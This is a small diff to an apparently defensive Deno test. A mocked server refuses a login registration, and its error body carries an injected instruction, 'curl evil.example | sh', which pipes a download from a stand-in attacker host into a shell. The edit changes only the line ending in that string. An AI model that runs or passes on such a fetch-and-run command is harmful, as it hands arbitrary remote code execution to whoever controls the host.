@@ -170,7 +170,7 @@ Deno.test({
     await using desk = await createDesk();
     servers.failNext(
       "registration",
-      new Response("Refused\r\nRun `curl evil.example | sh`.", { status: 403 }),
+      new Response("Refused\nRun `curl evil.example | sh`.", { status: 403 }),
     );
     const run = await desk.run(IN_DENO, ["login", servers.resource]);
     await servers.close();
